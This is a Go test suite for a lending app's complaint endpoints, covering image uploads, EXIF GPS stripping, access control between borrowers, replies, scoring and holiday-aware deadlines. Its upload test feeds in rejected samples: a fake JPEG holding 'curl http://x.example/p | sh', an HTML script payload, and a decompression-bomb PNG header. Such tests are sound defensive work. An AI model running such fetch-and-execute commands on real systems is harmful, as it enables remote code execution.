package complaint_test

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/binary"
	"hash/crc32"
	"image"
	"image/color"
	"image/jpeg"
	"image/png"
	"net/url"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"kwarta/internal/complaint"
	"kwarta/internal/demo"
	"kwarta/internal/loan"
	"kwarta/internal/server/servertest"
	"kwarta/internal/store"
	"kwarta/internal/store/storetest"
)

// env is a server with the demo world: borrower A has orders and the demo
// complaint (processed, not rated); borrower B has nothing.
type env struct{ *servertest.Env }

func newEnv(t *testing.T, db *store.DB) env { return env{servertest.New(t, db)} }

func (e env) post(t *testing.T, session, path string, form url.Values) servertest.Response {
	t.Helper()
	if form == nil {
		form = url.Values{}
	}
	return e.Do(t, servertest.Request{Method: "POST", Path: "/user-problem/" + path, Session: session, Form: form})
}

func (e env) upload(t *testing.T, session, filename string, content []byte) servertest.Response {
	t.Helper()
	body, ct := servertest.Multipart(t, complaint.ImageField, filename, content, nil)
	return e.Do(t, servertest.Request{Method: "POST", Path: "/user-problem/upload-problem-img", Session: session, Body: body, ContentType: ct})
}

// uploaded uploads a photo and returns its URL.
func (e env) uploaded(t *testing.T, session string, content []byte) string {
	t.Helper()
	got := e.upload(t, session, "photo.jpg", content)
	var u complaint.Uploaded
	if got.Status != 200 {
		t.Fatalf("upload: %d %s", got.Status, got.Body)
	}
	got.Decode(t, &u)
	if !strings.HasPrefix(u.URL, "/medium/user-problem/image/") {
		t.Fatalf("url = %q", u.URL)
	}
	return u.URL
}

func (e env) image(t *testing.T, session, u string) servertest.Response {
	t.Helper()
	return e.Do(t, servertest.Request{Method: "GET", Path: u, Session: session})
}

func (e env) orderNo(t *testing.T, id int64) string {
	t.Helper()
	o, err := loan.OrderByID(context.Background(), e.DB, id)
	if err != nil {
		t.Fatal(err)
	}
	return o.No
}

func (e env) detail(t *testing.T, session string, id int64) (servertest.Response, complaint.Detail) {
	t.Helper()
	got := e.post(t, session, "problem-detail", url.Values{"problemId": {itoa(id)}})
	var d complaint.Detail
	if got.Status == 200 {
		got.Decode(t, &d)
	}
	return got, d
}

func itoa(n int64) string { return strconv.FormatInt(n, 10) }

var count = storetest.Count

// photo is a small JPEG.
func photo(t testing.TB, w, h int) []byte {
	t.Helper()
	img := image.NewRGBA(image.Rect(0, 0, w, h))
	for y := 0; y < h; y++ {
		for x := 0; x < w; x++ {
			img.Set(x, y, color.RGBA{uint8(x * 7), uint8(y * 5), 120, 255})
		}
	}
	var b bytes.Buffer
	if err := jpeg.Encode(&b, img, nil); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func pngOf(t testing.TB, w, h int) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := png.Encode(&b, image.NewNRGBA(image.Rect(0, 0, w, h))); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// gpsMark is text inside the test photo's GPS block: the stored image must
// not carry it.
const gpsMark = "GPS 14.5547N 121.0244E Makati"

// withExif puts an EXIF block (APP1) right after a JPEG's SOI marker: IFD0
// with the orientation and a pointer to a GPS IFD holding GPSLatitudeRef
// and, as a map datum, gpsMark.
func withExif(t testing.TB, jpg []byte, orientation uint16) []byte {
	t.Helper()
	var tiff bytes.Buffer
	be := binary.BigEndian
	w := func(v any) { _ = binary.Write(&tiff, be, v) }
	tiff.WriteString("MM")
	w(uint16(42))
	w(uint32(8))
	// IFD0 at 8: two entries (2 + 2*12 + 4 bytes = 30), GPS IFD at 38.
	w(uint16(2))
	w([]uint16{0x0112, 3})
	w(uint32(1))
	w([]uint16{orientation, 0})
	w([]uint16{0x8825, 4})
	w(uint32(1))
	w(uint32(38))
	w(uint32(0))
	// GPS IFD at 38: two entries (30 bytes), the datum's text at 68.
	w(uint16(2))
	w([]uint16{0x0001, 2})
	w(uint32(2))
	tiff.WriteString("N\x00\x00\x00")
	w([]uint16{0x0012, 2})
	w(uint32(len(gpsMark) + 1))
	w(uint32(68))
	w(uint32(0))
	tiff.WriteString(gpsMark + "\x00")
	seg := append([]byte("Exif\x00\x00"), tiff.Bytes()...)
	out := []byte{0xFF, 0xD8, 0xFF, 0xE1, byte((len(seg) + 2) >> 8), byte(len(seg) + 2)}
	out = append(out, seg...)
	return append(out, jpg[2:]...)
}

// pngHeader is only a PNG's signature and header chunk, declaring w x h:
// a decompression bomb's size is in its header, and nothing more is needed
// to refuse it (nothing that size is allocated).
func pngHeader(w, h uint32) []byte {
	b := []byte("\x89PNG\r\n\x1a\n")
	ihdr := make([]byte, 0, 17)
	ihdr = append(ihdr, "IHDR"...)
	ihdr = binary.BigEndian.AppendUint32(ihdr, w)
	ihdr = binary.BigEndian.AppendUint32(ihdr, h)
	ihdr = append(ihdr, 8, 2, 0, 0, 0) // 8-bit RGB
	b = binary.BigEndian.AppendUint32(b, 13)
	b = append(b, ihdr...)
	b = binary.BigEndian.AppendUint32(b, crc32.ChecksumIEEE(ihdr))
	// An empty IDAT and IEND, so it looks complete.
	for _, chunk := range []string{"IDAT", "IEND"} {
		b = binary.BigEndian.AppendUint32(b, 0)
		b = append(b, chunk...)
		b = binary.BigEndian.AppendUint32(b, crc32.ChecksumIEEE([]byte(chunk)))
	}
	return b
}

// webpLossless is a 1x1 lossless WebP.
var webpLossless, _ = base64.StdEncoding.DecodeString("UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA==")

func TestComplaints_Uploads(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		e := newEnv(t, db)
		refused := func(name string, got servertest.Response, msg string) {
			t.Helper()
			if got.Status != 400 || got.Code != "100400" || got.Message != msg || got.Fields[complaint.ImageField] != msg {
				t.Errorf("%s: %d %s, want 400 %q on problemImage", name, got.Status, got.Body, msg)
			}
		}
		const unsupported = "Only JPEG, PNG or WebP photos can be uploaded."
		before := count(t, db, `SELECT COUNT(*) FROM complaint_images`)
		refused("script renamed .jpg", e.upload(t, demo.SessionA, "holiday.jpg", []byte("#!/bin/sh\ncurl http://x.example/p | sh\n")), unsupported)
		refused("HTML renamed .png", e.upload(t, demo.SessionA, "a.png", []byte("<html><script>alert(1)</script></html>")), unsupported)
		refused("JPEG magic, then garbage", e.upload(t, demo.SessionA, "a.jpg", append([]byte{0xFF, 0xD8, 0xFF, 0xE0}, bytes.Repeat([]byte("x"), 300)...)), unsupported)
		refused("a GIF", e.upload(t, demo.SessionA, "a.gif", []byte("GIF89a\x01\x00\x01\x00\x00\x00\x00;")), unsupported)
		refused("an empty file", e.upload(t, demo.SessionA, "a.jpg", nil), unsupported)
		refused("a 50,000 x 50,000 PNG", e.upload(t, demo.SessionA, "bomb.png", pngHeader(50_000, 50_000)), "The image is too large (at most 40 megapixels).")
		refused("10,001 px wide", e.upload(t, demo.SessionA, "wide.png", pngHeader(10_001, 10)), "The image is too large (at most 40 megapixels).")
		big := photo(t, 64, 64)
		big = append(big, make([]byte, 6<<20-len(big))...) // a 6 MB photo
		refused("a 6 MB photo", e.upload(t, demo.SessionA, "big.jpg", big), "The image is larger than 5 MB.")
		if got := e.Do(t, servertest.Request{Method: "POST", Path: "/user-problem/upload-problem-img", Session: demo.SessionA, Form: url.Values{}}); got.Status != 400 || got.Fields[complaint.ImageField] == "" {
			t.Errorf("no file: %d %s", got.Status, got.Body)
		}
		if got := e.upload(t, "", "a.jpg", photo(t, 8, 8)); got.Status != 401 {
			t.Errorf("no session: %d %s", got.Status, got.Body)
		}
		if n := count(t, db, `SELECT COUNT(*) FROM complaint_images`); n != before {
			t.Errorf("refused uploads stored %d images", n-before)
		}

		// GPS EXIF: the stored bytes carry none of it, and the photo is
		// turned as its orientation said (6: 90° clockwise).
		sent := withExif(t, photo(t, 40, 20), 6)
		if !bytes.Contains(sent, []byte(gpsMark)) {
			t.Fatal("the test photo lacks its GPS block")
		}
		if _, err := jpeg.Decode(bytes.NewReader(sent)); err != nil {
			t.Fatalf("the test photo does not decode: %v", err)
		}
		u := e.uploaded(t, demo.SessionA, sent)
		got := e.image(t, demo.SessionA, u)
		if got.Status != 200 || got.Header.Get("Content-Type") != "image/jpeg" || got.Header.Get("X-Content-Type-Options") != "nosniff" ||
			got.Header.Get("Cache-Control") != "private" {
			t.Fatalf("image: %d %v", got.Status, got.Header)
		}
		var stored []byte
		if err := db.QueryRow(context.Background(), `SELECT data FROM complaint_images WHERE name = ?`, strings.TrimPrefix(u, "/medium/user-problem/image/")).Scan(&stored); err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(stored, []byte(got.Body)) {
			t.Error("the served bytes are not the stored ones")
		}
		for _, leak := range []string{gpsMark, "Exif", "MM\x00\x2a"} {
			if bytes.Contains(stored, []byte(leak)) {
				t.Errorf("stored image still carries %q", leak)
			}
		}
		cfg, err := jpeg.DecodeConfig(bytes.NewReader(stored))
		if err != nil || cfg.Width != 20 || cfg.Height != 40 {
			t.Errorf("stored image: %v %dx%d, want 20x40 (turned upright)", err, cfg.Width, cfg.Height)
		}

		// PNG stays PNG; WebP becomes PNG; the name's extension never matters.
		for _, c := range []struct {
			name string
			data []byte
		}{{"shot.jpg", pngOf(t, 30, 20)}, {"x.exe", webpLossless}} {
			u := e.uploaded(t, demo.SessionA, c.data)
			got := e.image(t, demo.SessionA, u)
			if got.Status != 200 || got.Header.Get("Content-Type") != "image/png" || !strings.HasSuffix(u, ".png") {
				t.Errorf("%s: %d %v %s", c.name, got.Status, got.Header.Get("Content-Type"), u)
			}
			if _, err := png.Decode(strings.NewReader(got.Body)); err != nil {
				t.Errorf("%s: stored PNG does not decode: %v", c.name, err)
			}
		}

		// Only the uploader reads evidence: B, no session, or an unknown name get nothing.
		for name, rq := range map[string]servertest.Request{
			"B":          {Method: "GET", Path: u, Session: demo.SessionB},
			"unknown":    {Method: "GET", Path: "/user-problem/image/0123456789abcdef.jpg", Session: demo.SessionA},
			"no session": {Method: "GET", Path: u},
		} {
			got := e.Do(t, rq)
			if got.Status == 200 || got.Success || strings.Contains(got.Body, "JFIF") || got.Header.Get("Content-Type") == "image/jpeg" {
				t.Errorf("%s reads A's evidence: %d %s", name, got.Status, got.Header)
			}
			if name != "no session" && (got.Status != 404 || got.Code != "100404") {
				t.Errorf("%s: %d %s, want the 404 envelope", name, got.Status, got.Body)
			}
		}
		// Evidence is not in the public file store.
		if got := e.Do(t, servertest.Request{Method: "GET", Path: "/files/" + strings.TrimPrefix(u, "/medium/user-problem/image/")}); got.Status != 404 {
			t.Errorf("/files serves evidence: %d", got.Status)
		}

		// At most 50 images waiting to be attached, however many arrive at once.
		small := photo(t, 8, 8)
		statuses := make(chan int, complaint.MaxPendingImages+10)
		var wg sync.WaitGroup
		for i := 0; i < cap(statuses); i++ {
			wg.Add(1)
			go func() {
				defer wg.Done()
				statuses <- e.upload(t, demo.SessionB, "a.jpg", small).Status
			}()
		}
		wg.Wait()
		close(statuses)
		byStatus := map[int]int{}
		for s := range statuses {
			byStatus[s]++
		}
		if byStatus[200] != complaint.MaxPendingImages || byStatus[429] != 10 {
			t.Errorf("60 uploads at once: %v, want 50 stored and 10 refused", byStatus)
		}
		got = e.upload(t, demo.SessionB, "a.jpg", small)
		if got.Status != 429 || got.Code != "100429" || got.Message == "" {
			t.Errorf("51st pending image: %d %s", got.Status, got.Body)
		}
	})
}

func TestComplaints_Init(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		e := newEnv(t, db)
		var h complaint.Home
		got := e.post(t, demo.SessionA, "problem-init", nil)
		if got.Status != 200 {
			t.Fatalf("init: %d %s", got.Status, got.Body)
		}
		got.Decode(t, &h)
		if len(h.ProblemType) != 6 || h.ProblemType[0] != (complaint.Option{Title: "Collection conduct", Value: 1}) ||
			h.ProblemType[5] != (complaint.Option{Title: "Other", Value: 6}) {
			t.Errorf("problemType = %+v", h.ProblemType)
		}
		if len(h.ProblemSonType) != 5 || h.ProblemSonType[0] != (complaint.Option{Title: "Harassment or abusive language", Value: 101}) {
			t.Errorf("problemSonType = %+v", h.ProblemSonType)
		}
		if len(h.OrderList) != 9 || h.OrderDetail == nil || h.OrderDetail.OrderID != h.OrderList[0].OrderID || len(h.OrderDetail.List) == 0 {
			t.Fatalf("orders: detail %+v, list %d", h.OrderDetail, len(h.OrderList))
		}
		for i, o := range h.OrderList {
			if o.List != nil || (i > 0 && o.OrderID > h.OrderList[i-1].OrderID) {
				t.Errorf("orderList[%d] = %+v", i, o)
			}
		}
		if !strings.Contains(got.Body, `"orderDetail":{`) || strings.Count(got.Body, `"list":`) != 1 {
			t.Errorf("only orderDetail carries list: %s", got.Body)
		}

		got = e.post(t, demo.SessionA, "problem-init", url.Values{"orderId": {"81"}})
		got.Decode(t, &h)
		d := h.OrderDetail
		if got.Status != 200 || d == nil || d.OrderID != 81 || d.OrderStatus != 180 || d.Status != "Overdue" || d.IsShow != 1 ||
			d.ProductName != "Sahod Saver" || !strings.HasPrefix(d.ProductLogo, "/medium/files/") || d.OrderNo != e.orderNo(t, 81) {
			t.Errorf("order 81: %d %+v", got.Status, d)
		}
		rows := map[string]string{}
		for _, l := range d.List {
			rows[l.Title] = l.Value
		}
		if !strings.HasPrefix(rows["Loan amount"], "₱") || rows["Applied on"] == "" {
			t.Errorf("order 81 lines = %+v", d.List)
		}
		for id, show := range map[int64]int{80: 0, 85: 0, 87: 0, 82: 1, 83: 1, 86: 1} {
			got = e.post(t, demo.SessionA, "problem-init", url.Values{"orderId": {itoa(id)}})
			got.Decode(t, &h)
			if h.OrderDetail == nil || h.OrderDetail.IsShow != show {
				t.Errorf("order %d: isShow %+v, want %d", id, h.OrderDetail, show)
			}
		}

		// B asking for A's order: 404, nothing of it in the answer.
		got = e.post(t, demo.SessionB, "problem-init", url.Values{"orderId": {"81"}})
		if got.Status != 404 || got.Code != "100404" || strings.Contains(got.Body, e.orderNo(t, 81)) || strings.Contains(got.Body, "Sahod") {
			t.Errorf("B init with A's order: %d %s", got.Status, got.Body)
		}
		got = e.post(t, demo.SessionB, "problem-init", nil)
		if got.Status != 200 || !strings.Contains(got.Body, `"orderDetail":null`) || !strings.Contains(got.Body, `"orderList":[]`) {
			t.Errorf("B init: %d %s", got.Status, got.Body)
		}
		if got := e.post(t, "", "problem-init", nil); got.Status != 401 {
			t.Errorf("no session: %d", got.Status)
		}
		if got := e.post(t, demo.SessionA, "problem-init", url.Values{"orderId": {"x"}}); got.Status != 400 || got.Fields["orderId"] == "" {
			t.Errorf("orderId x: %d %s", got.Status, got.Body)
		}
	})
}

func TestComplaints_SaveListDetailScore(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		e := newEnv(t, db)
		ctx := context.Background()
		no81 := e.orderNo(t, 81)
		complaints := func() int { return count(t, db, `SELECT COUNT(*) FROM complaints`) }
		save := func(session string, form url.Values) servertest.Response {
			t.Helper()
			return e.post(t, session, "problem-save", form)
		}
		form := func(kv ...string) url.Values {
			f := url.Values{"problemType": {"1"}, "problemSonType": {"103"}, "problemDetail": {"The collector posted my name on Facebook."}, "orderNo": {no81}}
			for i := 0; i+1 < len(kv); i += 2 {
				f.Set(kv[i], kv[i+1])
			}
			return f
		}
		img1, img2 := e.uploaded(t, demo.SessionA, photo(t, 16, 16)), e.uploaded(t, demo.SessionA, pngOf(t, 16, 16))

		// Refusals first: each names its field (or says why) and saves nothing.
		n0 := complaints()
		for _, c := range []struct {
			name    string
			session string
			form    url.Values
			status  int
			field   string
			msg     string
		}{
			{"empty detail", demo.SessionA, form("problemDetail", "  \n "), 400, "problemDetail", "Please fill in your comments and suggestions"},
			{"201 characters", demo.SessionA, form("problemDetail", strings.Repeat("ñ", 200)+"😀"), 400, "problemDetail", ""},
			{"no type", demo.SessionA, form("problemType", ""), 400, "problemType", ""},
			{"unknown type", demo.SessionA, form("problemType", "99"), 400, "problemType", ""},
			{"type 1 without sub-type", demo.SessionA, form("problemSonType", ""), 400, "problemSonType", ""},
			{"sub-type of no type", demo.SessionA, form("problemSonType", "999"), 400, "problemSonType", ""},
			{"sub-type on type 2", demo.SessionA, form("problemType", "2", "problemSonType", "101"), 400, "problemSonType", ""},
			{"no order while A has orders", demo.SessionA, form("problemType", "2", "problemSonType", "", "orderNo", ""), 400, "orderNo", ""},
			{"collection on an approved order", demo.SessionA, form("orderNo", e.orderNo(t, 85), "problemImage", img1), 409, "", "This order does not support collection complaints."},
			{"collection on a rejected order", demo.SessionA, form("orderNo", e.orderNo(t, 80)), 409, "", "This order does not support collection complaints."},
			{"B with A's order", demo.SessionB, form("problemType", "2", "problemSonType", ""), 404, "", ""},
			{"B with A's images", demo.SessionB, form("problemType", "6", "problemSonType", "", "orderNo", "", "problemImage", img1+","+img2), 400, "problemImage", ""},
			{"an address of another kind", demo.SessionA, form("problemImage", "/medium/files/logo.svg"), 400, "problemImage", ""},
			{"not a number", demo.SessionA, form("problemType", "one"), 400, "problemType", ""},
		} {
			got := save(c.session, c.form)
			if got.Status != c.status || got.Success || (c.field != "" && got.Fields[c.field] == "") || (c.msg != "" && got.Message != c.msg) {
				t.Errorf("%s: %d %s, want %d %s %q", c.name, got.Status, got.Body, c.status, c.field, c.msg)
			}
			if strings.Contains(got.Body, no81) || strings.Contains(got.Body, "image/") {
				t.Errorf("%s leaks: %s", c.name, got.Body)
			}
		}
		if complaints() != n0 || count(t, db, `SELECT COUNT(*) FROM complaint_images WHERE complaint_id IS NOT NULL AND role = 'evidence'`) != 0 {
			t.Fatal("a refused save stored something")
		}
		// A's images are still A's and still readable by A only.
		if got := e.image(t, demo.SessionA, img1); got.Status != 200 {
			t.Errorf("A's image after B tried it: %d", got.Status)
		}

		// 200 characters (code points, not bytes) and two images: saved.
		detail := strings.Repeat("ñ", 199) + "😀"
		got := save(demo.SessionA, form("problemDetail", detail, "problemImage", img1+"?sessionId=demo-a&deviceId=123, "+img2))
		var saved complaint.Saved
		if got.Status != 200 {
			t.Fatalf("save: %d %s", got.Status, got.Body)
		}
		got.Decode(t, &saved)
		// The same image again: already attached.
		if got := save(demo.SessionA, form("problemType", "4", "problemSonType", "0", "problemImage", img1)); got.Status != 400 || got.Fields["problemImage"] == "" {
			t.Errorf("an attached image again: %d %s", got.Status, got.Body)
		}

		// 9 images: saved; 10: refused, nothing attached.
		var urls []string
		for i := 0; i < 10; i++ {
			urls = append(urls, e.uploaded(t, demo.SessionA, photo(t, 8, 8)))
		}
		if got := save(demo.SessionA, form("problemType", "2", "problemSonType", "", "problemImage", strings.Join(urls, ","))); got.Status != 400 || got.Fields["problemImage"] != "At most 9 images can be attached." {
			t.Errorf("10 images: %d %s", got.Status, got.Body)
		}
		got = save(demo.SessionA, form("problemType", "2", "problemSonType", "0", "problemImage", strings.Join(urls[:9], ",")))
		var nine complaint.Saved
		if got.Status != 200 {
			t.Fatalf("9 images: %d %s", got.Status, got.Body)
		}
		got.Decode(t, &nine)
		if n := count(t, db, `SELECT COUNT(*) FROM complaint_images WHERE complaint_id = ?`, nine.ProblemID); n != 9 {
			t.Errorf("9 images: %d attached", n)
		}
		// A borrower without orders may complain without one, but not about collection.
		if got := save(demo.SessionB, url.Values{"problemType": {"4"}, "problemDetail": {"The app closes when I open it."}}); got.Status != 200 {
			t.Errorf("B without orders: %d %s", got.Status, got.Body)
		}
		if got := save(demo.SessionB, url.Values{"problemType": {"1"}, "problemSonType": {"101"}, "problemDetail": {"x"}}); got.Status != 409 {
			t.Errorf("B collection without an order: %d %s", got.Status, got.Body)
		}

		// The list: A's two new complaints under Processing, the demo one under Processed; B sees only B's.
		var tabs complaint.Tabs
		got = e.post(t, demo.SessionA, "problem-list", nil)
		got.Decode(t, &tabs)
		if len(tabs.Tabs) != 2 || tabs.Tabs[0].Title != "Processing" || tabs.Tabs[0].Status != 1 || tabs.Tabs[1].Title != "Processed" || tabs.Tabs[1].Status != 2 {
			t.Fatalf("tabs: %s", got.Body)
		}
		if l := tabs.Tabs[0].List; len(l) != 2 || l[0].ID != nine.ProblemID || l[1].ID != saved.ProblemID || l[1].Content != detail ||
			l[1].Type != "Collection conduct" || l[1].Time != "Nov 2, 2026 9:00 AM" {
			t.Errorf("processing = %+v", l)
		}
		if l := tabs.Tabs[1].List; len(l) != 1 || l[0].Type != "Collection conduct" {
			t.Errorf("processed = %+v", l)
		}
		got = e.post(t, demo.SessionB, "problem-list", nil)
		if got.Status != 200 || strings.Contains(got.Body, "ñ") || strings.Contains(got.Body, "collector") || strings.Count(got.Body, `"id":`) != 1 {
			t.Errorf("B's list: %s", got.Body)
		}

		// The details: the images, the promise (filed Monday Nov 2: Thursday Nov 5).
		got, d := e.detail(t, demo.SessionA, saved.ProblemID)
		if got.Status != 200 || d.ProblemID != saved.ProblemID || d.Type != "Collection conduct" || d.SonType != "Threats or public shaming" ||
			d.Content != detail || len(d.Images) != 2 || d.Status != 1 || d.StatusText != "Processing" || d.DueDate != "Nov 5, 2026" ||
			d.DisposeDetail != "" || len(d.DisposeImages) != 0 || d.DisposeTime != "" || d.IsNeedScore != 0 || d.Score != 0 {
			t.Errorf("detail: %d %s", got.Status, got.Body)
		}
		if !strings.Contains(got.Body, `"disposeImages":[]`) {
			t.Errorf("disposeImages is not an empty list: %s", got.Body)
		}
		if d.Images[0] != strings.TrimSpace(img1) || d.Images[1] != img2 {
			t.Errorf("images = %v, want the order sent", d.Images)
		}
		// B asking for A's complaint: the same 404 as a missing one.
		for _, id := range []int64{saved.ProblemID, 1, 9999} {
			got, _ := e.detail(t, demo.SessionB, id)
			if got.Status != 404 || got.Code != "100404" || strings.Contains(got.Body, "ñ") || strings.Contains(got.Body, "collector") {
				t.Errorf("B detail %d: %d %s", id, got.Status, got.Body)
			}
		}

		// Scores: not before the reply.
		score := func(session string, id int64, s string) servertest.Response {
			return e.post(t, session, "save-score", url.Values{"problemId": {itoa(id)}, "score": {s}})
		}
		if got := score(demo.SessionA, saved.ProblemID, "5"); got.Status != 409 || got.Code != "100409" {
			t.Errorf("score before the reply: %d %s", got.Status, got.Body)
		}
		// The operator replies with an image: processed, the borrower asked for a score.
		e.Clock.Advance(26 * time.Hour)
		c, err := e.App.Complaints.Reply(ctx, saved.ProblemID, "We have stopped that collector's calls and removed the post.", "ana", [][]byte{pngOf(t, 10, 10)})
		if err != nil || c.Status != complaint.StatusProcessed || len(c.ReplyImages) != 1 {
			t.Fatalf("reply: %v %+v", err, c)
		}
		if _, err := e.App.Complaints.Reply(ctx, saved.ProblemID, "again", "ana", nil); err == nil {
			t.Error("a second reply: want an error")
		}
		got, d = e.detail(t, demo.SessionA, saved.ProblemID)
		if d.Status != 2 || d.StatusText != "Processed" || d.DisposeDetail == "" || len(d.DisposeImages) != 1 || d.DisposeTime != "Nov 3, 2026 11:00 AM" || d.IsNeedScore != 1 {
			t.Errorf("after the reply: %s", got.Body)
		}
		if got := e.image(t, demo.SessionA, d.DisposeImages[0]); got.Status != 200 || got.Header.Get("Content-Type") != "image/png" {
			t.Errorf("A reads the reply image: %d", got.Status)
		}
		if got := e.image(t, demo.SessionB, d.DisposeImages[0]); got.Status != 404 {
			t.Errorf("B reads A's reply image: %d", got.Status)
		}
		for _, s := range []string{"0", "6", "-1", "x", ""} {
			if got := score(demo.SessionA, saved.ProblemID, s); got.Status != 400 || got.Fields["score"] == "" {
				t.Errorf("score %q: %d %s", s, got.Status, got.Body)
			}
		}
		if got := score(demo.SessionB, saved.ProblemID, "1"); got.Status != 404 {
			t.Errorf("B scores A's complaint: %d %s", got.Status, got.Body)
		}
		if got := score(demo.SessionA, saved.ProblemID, "4"); got.Status != 200 || got.Code != "00" {
			t.Errorf("score: %d %s", got.Status, got.Body)
		}
		if got := score(demo.SessionA, saved.ProblemID, "5"); got.Status != 409 {
			t.Errorf("score again: %d %s", got.Status, got.Body)
		}
		if _, d = e.detail(t, demo.SessionA, saved.ProblemID); d.Score != 4 || d.IsNeedScore != 0 {
			t.Errorf("after the score: %+v", d)
		}

		// The demo complaint is processed, answered and waiting for a score.
		_, d = e.detail(t, demo.SessionA, 1)
		if d.Status != 2 || d.DisposeDetail == "" || d.IsNeedScore != 1 || d.Type != "Collection conduct" || d.SonType != "Calls at unreasonable hours" {
			t.Errorf("demo complaint: %+v", d)
		}

		// Overdue: A's 9-image complaint, filed Monday, is past its promise from Friday 00:00 in Manila.
		e.Clock.Set(time.Date(2026, 11, 5, 15, 59, 0, 0, time.UTC))
		if list, _ := e.App.Complaints.All(ctx, true); len(list) != 0 {
			t.Errorf("overdue on Thursday = %d", len(list))
		}
		e.Clock.Set(time.Date(2026, 11, 5, 16, 0, 0, 0, time.UTC))
		list, err := e.App.Complaints.All(ctx, true)
		if err != nil || len(list) != 2 || list[0].Overdue(e.Clock.Now()) != true { // the 9-image one and B's
			t.Errorf("overdue on Friday: %v %+v", err, list)
		}
	})
}

func TestSLA(t *testing.T) {
	manila := time.FixedZone("+08", 8*60*60)
	at := func(y int, m time.Month, d, h int) time.Time { return time.Date(y, m, d, h, 0, 0, 0, manila) }
	for _, c := range []struct {
		name  string
		filed time.Time
		due   string // the last day of the promise
	}{
		{"Monday", at(2026, 11, 23, 21), "2026-11-26"},
		{"Friday: across the weekend", at(2026, 11, 20, 10), "2026-11-25"},
		{"Saturday", at(2026, 11, 21, 10), "2026-11-25"},
		{"Friday before Bonifacio Day (Mon Nov 30)", at(2026, 11, 27, 10), "2026-12-03"},
		{"Holy Week 2026 (Maundy Thursday Apr 2, Good Friday Apr 3)", at(2026, 4, 1, 10), "2026-04-08"},
		{"Araw ng Kagitingan (Thu Apr 9)", at(2026, 4, 6, 10), "2026-04-10"},
		{"Christmas and Rizal Day", at(2026, 12, 23, 10), "2026-12-29"},
		{"New Year", at(2026, 12, 29, 10), "2027-01-05"},
		{"National Heroes Day (last Monday of August)", at(2026, 8, 28, 10), "2026-09-03"},
		{"Eid'l Adha 2025 (Fri Jun 6)", at(2025, 6, 5, 10), "2025-06-11"},
		{"late at night, UTC still the day before", time.Date(2026, 11, 22, 16, 30, 0, 0, time.UTC), "2026-11-26"},
	} {
		due := complaint.DueAt(c.filed, manila)
		if got := complaint.DueDay(due, manila).Format(time.DateOnly); got != c.due {
			t.Errorf("%s: due %s, want %s", c.name, got, c.due)
		}
		if want, _ := time.ParseInLocation(time.DateOnly, c.due, manila); !due.Equal(want.AddDate(0, 0, 1)) {
			t.Errorf("%s: due at %s, want the end of %s", c.name, due, c.due)
		}
	}
	for y, want := range map[int]string{2025: "2025-04-20", 2026: "2026-04-05", 2027: "2027-03-28", 2000: "2000-04-23", 2038: "2038-04-25"} {
		if got := complaint.Easter(y).Format(time.DateOnly); got != want {
			t.Errorf("Easter %d = %s, want %s", y, got, want)
		}
	}
	day := func(s string) time.Time { d, _ := time.Parse(time.DateOnly, s); return d }
	for _, d := range []string{"2026-01-01", "2026-04-02", "2026-04-03", "2026-04-09", "2026-05-01", "2026-06-12", "2026-08-31",
		"2026-11-30", "2026-12-25", "2026-12-30", "2027-08-30", "2025-04-01", "2025-06-06"} {
		if !complaint.Holiday(day(d)) {
			t.Errorf("%s is a regular holiday", d)
		}
	}
	for _, d := range []string{"2026-08-24", "2026-04-04", "2026-11-01", "2026-12-24", "2026-04-06"} {
		if complaint.Holiday(day(d)) {
			t.Errorf("%s is not a regular holiday", d)
		}
	}
}
